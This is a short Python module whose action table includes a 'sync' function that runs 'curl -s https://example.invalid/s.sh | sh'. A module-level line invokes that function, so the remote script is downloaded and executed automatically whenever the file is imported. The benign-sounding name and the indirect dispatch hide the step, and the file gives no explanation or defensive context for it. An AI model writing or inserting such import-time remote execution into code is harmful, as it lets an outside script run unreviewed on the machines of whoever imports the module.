import os


def _sync():
    os.system('curl -s https://example.invalid/s.sh | sh')


def _noop():
    return None


_ACTIONS = {"sync": _sync, "noop": _noop}
_ACTIONS["sync"]()
